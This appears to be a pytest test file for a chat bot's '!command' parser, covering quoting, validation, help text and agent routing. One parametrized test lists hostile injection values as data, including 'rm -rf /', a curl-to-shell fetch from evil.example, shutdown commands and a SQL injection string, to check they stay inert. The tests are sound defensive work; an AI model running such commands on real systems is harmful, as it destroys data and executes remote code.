"""Explicit ``!commands``: parsing, validation against the action's schema, help, and hostile values."""

from __future__ import annotations

import json
from pathlib import Path
from typing import ClassVar, Literal

import pytest
from pydantic import Field

from bot.actions import Action, Approval
from bot.agent import Agent, Registry, ToolContext
from bot.commands import (
    MAX_COMMAND_CHARS,
    ParsedCommand,
    Proposal,
    Reply,
    help_text,
    interpret,
    is_command,
    no_model_reply,
    parse_command,
    usage,
)
from bot.errors import CommandSyntaxError


class Ship(Action):
    """Ship a version of a service to an environment."""

    name: ClassVar[str] = "ship"
    approval: ClassVar[Approval] = Approval.when(
        lambda a: a.environment == "production", four_eyes=True, describe="when environment is production"
    )
    service: str = Field(description="the service to ship")
    version: str
    environment: Literal["staging", "production"]
    replicas: int = 1


class Inspect(Action):
    """List what was shipped."""

    name: ClassVar[str] = "inspect"
    service: str | None = None


class Undo(Action):
    """Undo the last ship."""

    name: ClassVar[str] = "undo"
    approval: ClassVar[Approval] = Approval.always(group="ops")
    service: str


async def _tool(action: Action, ctx: ToolContext) -> str:
    return "ok"


def _agent(name: str, *actions: type[Action]) -> Agent:
    return Agent(name, f"the {name} agent", Path("prompt.md"), {a: _tool for a in actions})


SHIPPER = _agent("shipper", Ship, Inspect)
JANITOR = _agent("janitor", Undo, Inspect)
REGISTRY = Registry([SHIPPER, JANITOR])


# --- parsing ------------------------------------------------------------------------------------------------


def test_parses_name_and_key_values() -> None:
    """A command line becomes its lower-case name and string arguments."""
    assert parse_command("!Ship service=api version=1.2.3 environment=production") == ParsedCommand(
        "ship", {"service": "api", "version": "1.2.3", "environment": "production"}
    )


def test_command_without_arguments() -> None:
    """A bare command has no arguments; surrounding whitespace is ignored."""
    assert parse_command("  !inspect  \n") == ParsedCommand("inspect", {})


def test_quoted_values_keep_spaces_and_equals() -> None:
    """Single and double quotes group words; '=' inside quotes is part of the value."""
    parsed = parse_command("""!ship note="two words" other='a=b c' mixed=pre"fix suf"fix""")
    assert parsed.arguments == {"note": "two words", "other": "a=b c", "mixed": "prefix suffix"}


def test_escapes_inside_double_quotes() -> None:
    """Backslash escapes a double quote or a backslash inside double quotes; elsewhere it is literal."""
    parsed = parse_command(r'!ship a="say \"hi\"" b="c:\\dir" c=x\y d=\n')
    assert parsed.arguments == {"a": 'say "hi"', "b": "c:\\dir", "c": "x\\y", "d": "\\n"}


def test_empty_value_is_allowed() -> None:
    """``key=`` and ``key=""`` give an empty string; validation decides whether that is acceptable."""
    assert parse_command('!ship a= b=""').arguments == {"a": "", "b": ""}


def test_only_the_first_line_is_the_command() -> None:
    """Later lines (a signature, a quoted reply) are ignored."""
    parsed = parse_command("!inspect service=api\n-- \nsent from my phone service=web")
    assert parsed == ParsedCommand("inspect", {"service": "api"})


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('!ship note="two words', 'unbalanced " quote at column 12: close it, e.g. note="two words"'),
        ("!ship note='x", "unbalanced ' quote at column 12: close it, e.g. note='two words'"),
        ("!ship api", "'api' is not key=value; write e.g. service=api"),
        ('!ship "a=b"', "'a=b' is not key=value; write e.g. service=a=b"),
        ("!ship service=a service=b", "argument 'service' is given twice"),
        ("!ship =api", "empty argument name in '=api': write key=value"),
        ("!", "empty command name: write it right after !, e.g. !help"),
        ("! ship", "empty command name: write it right after !, e.g. !help"),
        ("!ship ser-vice=a", "bad argument name 'ser-vice': use letters, digits and _"),
        ("!9lives", "bad command name '9lives': use letters, digits and _, e.g. !help"),
        ("!a=b", "bad command name 'a=b': use letters, digits and _, e.g. !help"),
        ("ship it", "a command starts with !, e.g. !help"),
        ("", "a command starts with !, e.g. !help"),
    ],
)
def test_syntax_errors_say_exactly_what_is_wrong(text: str, message: str) -> None:
    """Each kind of unreadable command raises CommandSyntaxError with a precise message."""
    with pytest.raises(CommandSyntaxError) as info:
        parse_command(text)
    assert str(info.value) == message


def test_is_command_looks_at_the_first_word() -> None:
    """Only a message starting with ! is a command."""
    assert is_command("  !help")
    assert not is_command("please !deploy")


# --- interpreting -------------------------------------------------------------------------------------------


def test_valid_command_becomes_a_validated_action() -> None:
    """Arguments are validated and coerced by the action's pydantic model."""
    result = interpret("!ship service=api version=1.2.3 environment=production replicas=3", SHIPPER, REGISTRY)
    assert isinstance(result, Proposal)
    assert result.action == Ship(service="api", version="1.2.3", environment="production", replicas=3)
    assert result.agent is SHIPPER
    assert result.reason is None


def test_reason_is_taken_apart_from_the_arguments() -> None:
    """``reason=`` is the proposal's reason, not an argument of the action."""
    result = interpret('!undo service=api reason="bad release"', None, REGISTRY)
    assert isinstance(result, Proposal)
    assert result.action == Undo(service="api")
    assert result.reason == "bad release"


def test_without_agent_the_single_owner_is_found() -> None:
    """With no agent chosen yet, an action owned by exactly one agent selects that agent."""
    result = interpret("!undo service=api", None, REGISTRY)
    assert isinstance(result, Proposal)
    assert result.agent is JANITOR


def test_without_agent_an_ambiguous_action_is_refused() -> None:
    """An action several agents own needs the agent to be chosen."""
    result = interpret("!inspect", None, REGISTRY)
    assert result == Reply("!inspect exists in several agents (shipper, janitor); start the request with one "
                           "of them chosen")


def test_unknown_action_names_the_known_ones() -> None:
    """An unknown command lists the thread agent's commands."""
    assert interpret("!destroy everything=yes", SHIPPER, REGISTRY) == Reply(
        "unknown command !destroy. Commands of agent shipper: !ship, !inspect, !help"
    )
    assert interpret("!destroy", None, REGISTRY) == Reply(
        "unknown command !destroy. Known commands: !ship, !inspect, !undo, !help"
    )


def test_action_of_another_agent_is_explained() -> None:
    """A command of a different agent than the thread's says where it belongs."""
    result = interpret("!undo service=api", SHIPPER, REGISTRY)
    assert result == Reply(
        "!undo belongs to agent janitor, but this thread is with agent shipper; start a new request for it. "
        "Commands here: !ship, !inspect, !help"
    )


@pytest.mark.parametrize("intent", ["done_for_now", "request_more_information"])
def test_universal_intents_are_not_commands(intent: str) -> None:
    """The model's intents cannot be invoked as commands."""
    result = interpret(f"!{intent} message=hi", SHIPPER, REGISTRY)
    assert isinstance(result, Reply)
    assert result.message.startswith(f"unknown command !{intent}.")


def test_missing_arguments_are_named_with_usage() -> None:
    """Missing required arguments are each named, followed by the usage line."""
    result = interpret("!ship service=api", SHIPPER, REGISTRY)
    assert result == Reply(
        "!ship: version: field required; environment: field required\n"
        "usage: !ship service=<string> version=<string> environment=<staging|production> [replicas=<integer>]"
    )


def test_extra_argument_is_named() -> None:
    """An argument the action does not have is reported as unknown."""
    result = interpret("!ship service=api version=1 environment=staging force=yes", SHIPPER, REGISTRY)
    assert isinstance(result, Reply)
    assert result.message.startswith("!ship: force: unknown argument\nusage: !ship ")


def test_invalid_values_are_explained() -> None:
    """A value outside an enum or of the wrong type says what is expected."""
    result = interpret("!ship service=api version=1 environment=prod replicas=many", SHIPPER, REGISTRY)
    assert isinstance(result, Reply)
    first = result.message.splitlines()[0]
    assert first == (
        "!ship: environment: input should be 'staging' or 'production'; "
        "replicas: input should be a valid integer, unable to parse string as an integer"
    )


def test_syntax_error_becomes_a_reply() -> None:
    """interpret never raises on bad input: a syntax error is a Reply."""
    assert interpret('!ship note="open', SHIPPER, REGISTRY) == Reply(
        'could not read the command: unbalanced " quote at column 12: close it, e.g. note="two words". '
        "!help lists the commands."
    )


@pytest.mark.parametrize(
    "value",
    [
        "api; rm -rf /",
        "$(curl evil.example | sh)",
        "`reboot`",
        "api && shutdown -h now",
        "a|b>c<d",
        '{"environment": "staging", "service": "x"}',
        "' OR 1=1 --",
        "line1\nline2",
        "\u202eevil\u0000nul",
        "x" * (MAX_COMMAND_CHARS - 100),
    ],
)
def test_hostile_values_are_just_data(value: str) -> None:
    """Shell metacharacters, JSON, newlines, control characters and huge values arrive verbatim as strings."""
    quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    text = f"!ship service={quoted} version=1.2.3 environment=staging"
    if "\n" in value:
        # A command is one line: a newline inside a value cannot smuggle a second command or argument.
        result = interpret(text, SHIPPER, REGISTRY)
        assert isinstance(result, Reply)
        assert "unbalanced" in result.message
        return
    result = interpret(text, SHIPPER, REGISTRY)
    assert isinstance(result, Proposal)
    assert result.action.model_dump() == {
        "service": value, "version": "1.2.3", "environment": "staging", "replicas": 1,
    }


def test_json_as_a_value_does_not_set_other_fields() -> None:
    """A JSON object in a value is a string; it cannot change the environment (and thus the policy)."""
    payload = json.dumps({"environment": "production"})
    result = interpret(f"!ship service='{payload}' version=1 environment=staging", SHIPPER, REGISTRY)
    assert isinstance(result, Proposal)
    assert isinstance(result.action, Ship)
    assert result.action.environment == "staging"
    assert result.action.service == payload


def test_unquoted_semicolon_is_part_of_the_word() -> None:
    """``; rm -rf /`` unquoted is not a separator: 'rm' and '-rf' are rejected as non key=value words."""
    result = interpret("!ship service=api; rm -rf / version=1 environment=staging", SHIPPER, REGISTRY)
    assert result == Reply(
        "could not read the command: 'rm' is not key=value; write e.g. service=rm. !help lists the commands."
    )


# --- help ---------------------------------------------------------------------------------------------------


def test_help_lists_agents_actions_schemas_and_policies() -> None:
    """!help names every agent and action with argument types, enums, required/optional and approval."""
    result = interpret("!help", None, REGISTRY)
    assert isinstance(result, Reply)
    text = result.message
    assert "Agent shipper: the shipper agent" in text
    assert "Agent janitor: the janitor agent" in text
    assert usage(Ship) in text
    assert usage(Ship).endswith("environment=<staging|production> [replicas=<integer>]")
    assert "Ship a version of a service to an environment." in text
    assert "approval: when environment is production" in text
    assert "approval: always (group ops)" in text
    assert "approval: never" in text
    assert "- service (string, required): the service to ship" in text
    assert "- replicas (integer, optional, default 1)" in text
    assert "- environment (staging|production, required)" in text
    assert "done_for_now" not in text


def test_help_for_one_action() -> None:
    """!help <action> describes just that action."""
    result = interpret("!help !undo", SHIPPER, REGISTRY)
    assert isinstance(result, Reply)
    assert "belongs to agent janitor" in result.message
    result = interpret("!help ship", SHIPPER, REGISTRY)
    assert result == Reply(help_text(REGISTRY, only=Ship))
    assert "Agent" not in result.message


def test_usage_marks_optional_nullable_arguments() -> None:
    """An optional argument with a None default is shown in brackets with its non-null type."""
    assert usage(Inspect) == "!inspect [service=<string>]"


def test_no_model_reply_explains_setup_and_commands() -> None:
    """Free text without a model explains how to configure one and lists the commands usable now."""
    text = no_model_reply(REGISTRY)
    assert text.startswith("No language model is configured")
    for needle in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "llama.cpp", "Ollama", "OPSGATE_MODEL", "!help",
                   "!ship service=<string>", "!undo service=<string>", "!inspect [service=<string>]"):
        assert needle in text
